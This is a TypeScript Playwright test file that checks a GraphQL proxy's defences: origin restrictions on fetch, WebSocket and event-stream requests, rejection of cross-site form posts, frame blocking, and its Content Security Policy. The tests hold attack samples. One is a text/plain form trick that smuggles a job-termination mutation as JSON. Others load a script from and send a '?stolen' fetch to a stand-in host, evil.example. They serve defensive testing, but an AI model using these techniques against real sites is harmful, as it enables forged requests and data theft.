import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it, onTestFinished } from 'vitest';
import { drain, listen } from '../src/listen.ts';
import { launchBrowser } from './support/browser.ts';
import { openServer } from './support/live-server.ts';
import { jobsPage } from './support/rows.ts';
import { startScriptedUpstream } from './support/scripted-upstream.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
  // the first time, the browser is unpacked
}, 60_000);
afterAll(() => browser.close());

const terminate = 'mutation { terminateJob(id: "824a94d8-a34f-489d-ba49-78edc7f869e1") { job { id } } }';

/** A page of a site of its own, in the browser. */
const openPage = async () => {
  const { server, url } = await listen(
    (_request, response) => response.setHeader('content-type', 'text/html').end('<h1>Some site</h1>'),
    0,
    '127.0.0.1',
  );
  onTestFinished(() => drain(server, 0));
  const page = await browser.newPage();
  onTestFinished(() => page.close());
  await page.goto(url);
  return { page, origin: url };
};

/** What a page may try; each says what it got, or that it got nothing. */
const attempts: Readonly<Record<string, (page: Page, url: string) => Promise<string>>> = {
  'a JSON request': (page, url) =>
    page.evaluate(
      (url) =>
        fetch(url, {
          method: 'POST',
          headers: { 'content-type': 'application/json', authorization: 'key', 'wix-site-id': 'site' },
          body: '{"query":"{ jobs { nodes { id } } }"}',
        })
          .then((response) => response.text())
          .catch(() => 'nothing'),
      url,
    ),
  'a query in the address': (page, url) =>
    page.evaluate(
      (url) =>
        fetch(`${url}?query={jobs{nodes{id}}}`, { headers: { authorization: 'key' } })
          .then((response) => response.text())
          .catch(() => 'nothing'),
      url,
    ),
  'a WebSocket': (page, url) =>
    page.evaluate(
      (url) =>
        new Promise<string>((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws'), 'graphql-transport-ws');
          socket.onopen = () => resolve('{"data":"open"}');
          socket.onerror = () => resolve('nothing');
        }),
      url,
    ),
  'an event stream': (page, url) =>
    page.evaluate(
      (url) =>
        new Promise<string>((resolve) => {
          const events = new EventSource(`${url}?query={__typename}`);
          events.addEventListener('next', (event) => resolve(event.data));
          events.onerror = () => resolve('nothing');
        }),
      url,
    ),
};

it.each(Object.entries(attempts))(
  'a browser lets pages of allowed origins use %s, and no others',
  async (_what, attempt) => {
    const { page, origin } = await openPage();
    const upstream = await startScriptedUpstream(() => jobsPage([]));
    const closed = await openServer(upstream.url);
    expect(await attempt(page, closed.url)).toBe('nothing');
    expect(upstream.count()).toBe(0);
    const open = await openServer(upstream.url, { ALLOWED_ORIGINS: origin });
    expect(await attempt(page, open.url)).toMatch(/^\{"data":/);
  },
);

it.each(['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])(
  'a form of another page, sent as %s, moves nothing',
  async (enctype) => {
    const { page } = await openPage();
    const upstream = await startScriptedUpstream(() => jobsPage([]));
    const { url } = await openServer(upstream.url);
    const answered = page.waitForResponse((response) => response.url() === url);
    await page.evaluate(
      ({ url, enctype, terminate }) => {
        const form = document.createElement('form');
        Object.assign(form, { method: 'post', action: url, enctype });
        const input = document.createElement('input');
        // as plain text this makes JSON
        const isText = enctype === 'text/plain';
        input.name = isText ? `{"query":${JSON.stringify(terminate)},"x":"` : 'query';
        input.value = isText ? '"}' : terminate;
        form.append(input);
        document.body.append(form);
        form.submit();
      },
      { url, enctype, terminate },
    );
    expect((await answered).status()).toBe(403);
    expect(upstream.count()).toBe(0);
  },
);

it('no page may show the playground in a frame, and the playground runs no script but its own', async () => {
  const { page } = await openPage();
  const upstream = await startScriptedUpstream(() => jobsPage([]));
  const { url } = await openServer(upstream.url);
  const complaints: string[] = [];
  page.on('console', (message) => complaints.push(message.text()));
  await page.evaluate((url) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
    return new Promise((resolve) => frame.addEventListener('load', resolve));
  }, url);
  expect(complaints.join()).toContain("frame-ancestors 'none'");

  await page.goto(url);
  await page.locator('.graphiql-tab-button').first().waitFor();
  const ran = await page.evaluate(async () => {
    const probe = document.createElement('script');
    probe.textContent = 'document.title = "taken over"';
    document.head.append(probe);
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/x.js';
    const blocked = new Promise((resolve) => remote.addEventListener('error', () => resolve('blocked')));
    document.head.append(remote);
    const fetched = await fetch('https://evil.example/?stolen').then(
      () => 'fetched',
      () => 'blocked',
    );
    return [document.title, await blocked, fetched];
  });
  expect(ran).toEqual(['Data Movement Jobs', 'blocked', 'blocked']);
  expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThan(2);
});
